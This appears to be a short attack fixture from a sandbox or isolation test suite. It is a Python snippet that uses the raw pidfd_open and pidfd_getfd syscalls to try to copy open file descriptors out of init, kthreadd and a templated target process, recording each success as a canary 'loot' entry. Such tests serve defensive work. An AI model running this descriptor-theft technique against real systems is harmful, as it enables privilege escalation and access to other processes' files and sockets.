# attack: takes another process's descriptors
# exercises: vertical_edge_kernel
# outcome: steals
import ctypes
libc = ctypes.CDLL(None)
for pid in (1, 2, int("__PID__")):
    handle = libc.syscall(434, pid, 0)
    for number in range(3, 20):
        if handle >= 0 and libc.syscall(438, handle, number, 0) >= 0:
            loot.append("CANARY-descriptor")
